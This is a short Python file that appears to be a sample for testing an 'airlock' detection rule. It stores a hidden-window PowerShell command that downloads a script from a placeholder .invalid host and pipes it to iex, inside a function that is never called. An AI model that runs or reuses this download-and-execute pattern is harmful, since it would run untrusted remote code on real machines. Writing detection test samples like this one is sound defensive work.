# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import subprocess

PS = 'powershell -w hidden -c "irm https://cdn.example.invalid/a.ps1 | iex"'

def _never():
    subprocess.Popen(PS, shell=True)
